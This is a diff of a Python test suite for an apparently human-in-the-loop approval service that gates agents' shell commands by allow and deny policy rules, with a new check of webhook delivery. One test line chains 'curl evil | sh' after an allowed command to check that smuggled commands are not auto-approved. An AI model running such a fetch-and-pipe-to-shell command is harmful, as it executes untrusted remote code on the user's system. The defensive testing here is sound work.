@@ -4,6 +4,7 @@ rules (/v1/policies, `loopgate policy`) allow or deny such calls at once,
 audited as the rule's decision, without asking anyone."""
 import json
 
+from hookrecv import Receiver, verify
 from lg import chat, eq, error_is, ok
 from test_07_telegram import register, submit
 
@@ -86,6 +87,17 @@ def test_allow_rule_decides_at_once(s):
         eq(tg_sent_for(s, rid), [])
         # An allow rule must match the whole command.
         eq(bash(s, "pol-allow", "git status; curl evil | sh")["status"], "pending")
+        # The agent's webhook carries the decision, as for any other.
+        rec = Receiver()
+        try:
+            secret = s.cli("apikey", "webhook-secret", "--tenant", "default").stdout.strip()
+            hooked = bash(s, "pol-allow", "git log", callback_url=rec.url)
+            eq(hooked["status"], "completed")
+            body = verify(rec.wait_calls(1)[0], secret)
+            eq((body["request_id"], body["status"], body["approved"], body["response"]),
+               (hooked["request_id"], "completed", True, "Allowed by rule %d" % p["id"]))
+        finally:
+            rec.stop()
         # A request without a tool is never matched.
         r = s.post("/hitl/request", {"session_id": "pol-allow", "client_id": "agent",
                                      "message": "git status", "request_type": "confirmation"})
@@ -103,7 +115,6 @@ def test_deny_expired_revoked_session_scope(s):
         eq((out["status"], out["decided_by"]), ("completed", "policy:%d" % d["id"]))
         poll = s.get("/hitl/poll?request_id=" + out["request_id"]).json
         eq((poll["approved"], poll["response"]), (False, "Denied by rule %d" % d["id"]))
-        # Deny applies even to a quorum request.
     finally:
         rm(s, d["id"])
     # Revoked: asked again; DELETE again is a 404.
@@ -144,6 +155,15 @@ def test_never_allows_cut_or_quorum(s):
         eq(bash(s, "pol-cut", long, message="Run: " + long)["status"], "pending")
         eq(bash(s, "pol-cut", "echo hi", approvals_required=2)["status"], "pending")
         eq(bash(s, "pol-cut", "echo hi")["status"], "completed")
+        # A deny rule applies to a quorum request and to a cut message too.
+        d = add(s, "Bash", "danger", "deny", session_id="pol-cut", position=-1)
+        try:
+            eq(bash(s, "pol-cut", "echo danger", approvals_required=2)["decided_by"],
+               "policy:%d" % d["id"])
+            eq(bash(s, "pol-cut", long + " danger", message="Run: " + long)["decided_by"],
+               "policy:%d" % d["id"])
+        finally:
+            rm(s, d["id"])
     finally:
         rm(s, p["id"])
 
